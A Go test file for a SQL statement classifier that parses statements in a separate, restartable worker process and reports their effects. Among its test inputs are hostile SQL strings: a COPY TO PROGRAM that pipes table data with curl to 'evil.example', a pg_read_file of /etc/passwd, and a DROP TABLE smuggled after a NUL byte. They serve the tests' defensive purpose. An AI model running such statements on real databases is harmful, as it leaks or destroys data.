package sql

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"log/slog"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
)

// workerPath is the real worker, built for these tests.
var workerPath string

func TestMain(m *testing.M) {
	dir, err := os.MkdirTemp("", "postern-sqlparse")
	if err == nil {
		err = os.Chmod(dir, 0o755) // for a worker that runs as nobody
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	workerPath = filepath.Join(dir, "postern-sqlparse")
	build := exec.Command("go", "build", "-o", workerPath, "../../cmd/postern-sqlparse")
	build.Env = append(os.Environ(), "CGO_ENABLED=1")
	if out, err := build.CombinedOutput(); err != nil {
		fmt.Fprintf(os.Stderr, "build the worker, which needs a C compiler: %v\n%s", err, out)
		os.Exit(1)
	}
	code := m.Run()
	os.RemoveAll(dir)
	os.Exit(code)
}

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// running is a classifier at work until the test ends.
func running(t testing.TB, o Options) *Classifier {
	t.Helper()
	if o.Path == "" {
		o.Path = workerPath
	}
	c, err := New(o)
	must(t, err)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { c.Run(ctx); close(done) }()
	t.Cleanup(func() { cancel(); <-done })
	return c
}

func classify(t testing.TB, c *Classifier, text string) *Statement {
	t.Helper()
	s, err := c.Classify(t.Context(), text)
	if err != nil {
		t.Fatalf("%s: %v", text, err)
	}
	return s
}

// fake is a worker of the test's own, a shell script.
func fake(t *testing.T, script string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "worker")
	must(t, os.WriteFile(path, []byte("#!/bin/sh\n"+script+"\n"), 0o700))
	return path
}

// children are the processes of this one.
func children(t *testing.T) (pids []int) {
	t.Helper()
	stats, err := filepath.Glob("/proc/[0-9]*/stat")
	must(t, err)
	for _, path := range stats {
		b, err := os.ReadFile(path)
		if err != nil {
			continue
		}
		fields := strings.Fields(string(b[bytes.LastIndexByte(b, ')')+1:]))
		if fields[1] == strconv.Itoa(os.Getpid()) && fields[0] != "Z" {
			pid, err := strconv.Atoi(filepath.Base(filepath.Dir(path)))
			must(t, err)
			pids = append(pids, pid)
		}
	}
	return pids
}

func TestClassify(t *testing.T) {
	c := running(t, Options{})
	for text, want := range map[string]string{
		"SELECT email FROM public.customers WHERE id = 7":  "[{select public.customers}]",
		"DELETE FROM orders; DROP TABLE orders":            "[{delete orders} {ddl orders}]",
		"DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$":  "[{do plpgsql}]",
		"COPY orders TO PROGRAM 'curl -d @- evil.example'": "[{select orders} {copy-program orders}]",
		"":                                   "",
		"SELECT pg_read_file('/etc/passwd')": "",
	} {
		s := classify(t, c, text)
		if got := fmt.Sprint(s.Effects); want != "" && got != want {
			t.Errorf("%s\n has the effects %s, want %s", text, got, want)
		}
		if len(s.Effects) == 0 {
			t.Errorf("%s has no effects", text)
		}
	}
}

// What the worker need not see is refused before it, and what it refuses leaves
// it as it was.
func TestRefused(t *testing.T) {
	c := running(t, Options{})
	for name, text := range map[string]string{
		"syntax": "SELEC 1", "a NUL": "SELECT 1\x00; DROP TABLE a", "no UTF-8": "SELECT '\xff'",
		"too long": "SELECT '" + strings.Repeat("x", MaxText) + "'",
		"deep":     strings.Repeat("(", 50_000) + strings.Repeat(")", 50_000),
	} {
		s, err := c.Classify(t.Context(), text)
		var syntax *ErrSyntax
		if !errors.As(err, &syntax) && !errors.Is(err, ErrWorker) || s != nil {
			t.Errorf("%s: %v, %v", name, s, err)
		}
		if name != "deep" && syntax == nil {
			t.Errorf("%s: %v", name, err)
		}
	}
	_, err := c.Classify(t.Context(), "SELECT 1 \n\x1b[2J FRM x")
	if err == nil || strings.ContainsAny(err.Error(), "\n\x1b") {
		t.Errorf("a message that breaks out of its line: %q", err)
	}
	classify(t, c, "SELECT 1")
}

func TestNew(t *testing.T) {
	plain := filepath.Join(t.TempDir(), "plain")
	must(t, os.WriteFile(plain, nil, 0o600))
	for _, path := range []string{"", "/nowhere", t.TempDir(), plain} {
		if _, err := New(Options{Path: path}); err == nil {
			t.Errorf("%q was taken for a worker", path)
		}
	}
}

// A worker that dies between two statements is replaced.
func TestKilledWorker(t *testing.T) {
	c := running(t, Options{})
	classify(t, c, "SELECT 0")
	for _, pid := range children(t) {
		must(t, syscall.Kill(pid, syscall.SIGKILL))
	}
	lost := 0
	for i := range 100 {
		if _, err := c.Classify(t.Context(), fmt.Sprintf("SELECT 'text %d'", i)); errors.Is(err, ErrWorker) {
			lost++
		} else {
			must(t, err)
			break
		}
	}
	if s := c.Stats(); lost > 1 || s.Starts != 2 || s.Died != 1 {
		t.Errorf("%d statements were lost, %+v", lost, s)
	}
}

// A statement that stalls its worker is denied when its time is over, and not
// tried again for a while. Others are answered meanwhile.
func TestStalledWorker(t *testing.T) {
	c := running(t, Options{Deadline: 300 * time.Millisecond})
	var mu sync.Mutex
	later := time.Duration(0)
	c.now = func() time.Time { mu.Lock(); defer mu.Unlock(); return time.Now().Add(later) }
	classify(t, c, "SELECT 0")
	for _, pid := range children(t) {
		must(t, syscall.Kill(pid, syscall.SIGSTOP))
	}
	began := time.Now()
	const text = "SELECT 'stalls'"
	if _, err := c.Classify(t.Context(), text); !errors.Is(err, ErrWorker) {
		t.Fatal(err)
	}
	if took := time.Since(began); took < 300*time.Millisecond || took > 5*time.Second {
		t.Error("it took", took)
	}
	classify(t, c, "SELECT 'another'")
	before := c.Stats()
	if _, err := c.Classify(t.Context(), text); !errors.Is(err, ErrWorker) {
		t.Error("the poisoned text:", err)
	}
	if _, ok := c.Known(text); ok {
		t.Error("the poisoned text is known")
	}
	if s := c.Stats(); s.Killed != 1 || s.Refused != 1 || s.Misses != before.Misses || s.Starts != 2 {
		t.Errorf("%+v", s)
	}
	mu.Lock()
	later = poisoned
	mu.Unlock()
	classify(t, c, text)
}

// Whatever a worker answers that is no answer, the text is denied and the
// worker replaced.
func TestWorkersThatLie(t *testing.T) {
	for name, script := range map[string]string{
		"ends":           "exit 0",
		"echoes":         "exec cat",
		"says nothing":   "exec sleep 1000",
		"a huge frame":   `printf '\377\377\377\377'; exec sleep 1000`,
		"an empty frame": `printf '\0\0\0\0'; exec sleep 1000`,
		"half a frame":   `printf '\0\0\0\011S'; exec sleep 1000`,
		"two answers":    `printf '\0\0\0\001F\0\0\0\001F'; exec sleep 1000`,
		"a wrong kind":   `printf '\0\0\0\001Q'; exec sleep 1000`,
		"no statement":   `printf '\0\0\0\002S\1'; exec sleep 1000`,
	} {
		t.Run(name, func(t *testing.T) {
			var log bytes.Buffer
			c := running(t, Options{Path: fake(t, script), Deadline: 200 * time.Millisecond, Log: slog.New(slog.NewTextHandler(&log, nil))})
			for i := range 2 {
				if s, err := c.Classify(t.Context(), fmt.Sprint("SELECT ", i)); !errors.Is(err, ErrWorker) || s != nil {
					t.Error(s, err)
				}
			}
		})
	}
}

// Without any worker a statement waits for a bounded time, and no longer than
// its client.
func TestNoWorker(t *testing.T) {
	path := fake(t, "exit 0")
	c := running(t, Options{Path: path, Deadline: 50 * time.Millisecond, Workers: 1})
	must(t, os.Remove(path))
	began := time.Now()
	for range 3 { // the first of them may find the worker that was started before
		if _, err := c.Classify(t.Context(), "SELECT 1 AS "+strconv.Itoa(time.Now().Nanosecond())); err == nil {
			t.Error("an answer without a worker")
		}
	}
	if took := time.Since(began); took > 10*time.Second {
		t.Error("it took", took)
	}
	gone, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := c.Classify(gone, "SELECT 2 AS b"); !errors.Is(err, context.Canceled) && !errors.Is(err, ErrWorker) {
		t.Error(err)
	}
}

// A worker that cannot run here is not started over and over.
func TestWorkerThatEndsAtOnce(t *testing.T) {
	c, err := New(Options{Path: fake(t, "exit 1")})
	must(t, err)
	ctx, cancel := context.WithTimeout(t.Context(), restartPause/2)
	defer cancel()
	must(t, c.Run(ctx))
	if s := c.Stats(); s.Starts != 1 || s.Died != 1 {
		t.Errorf("%+v", s)
	}
}

// Workers end with Run.
func TestRunEnds(t *testing.T) {
	c, err := New(Options{Path: workerPath, Workers: 2})
	must(t, err)
	ctx, cancel := context.WithCancel(t.Context())
	done := make(chan struct{})
	go func() { c.Run(ctx); close(done) }()
	var all sync.WaitGroup
	for i := range 20 {
		all.Go(func() { classify(t, c, fmt.Sprintf("SELECT 'text %d'", i)) })
	}
	all.Wait()
	cancel()
	<-done
	if left := children(t); len(left) > 0 {
		t.Error("still there:", left)
	}
}

// A worker answers a bounded number of statements.
func TestRecycle(t *testing.T) {
	if testing.Short() {
		t.Skip("ten thousand statements take a second")
	}
	c := running(t, Options{})
	for i := range recycle + 1 {
		classify(t, c, fmt.Sprintf("SELECT 'text %d'", i))
	}
	if s := c.Stats(); s.Starts != 2 || s.Died != 0 || s.Misses != recycle+1 {
		t.Errorf("%+v", s)
	}
}
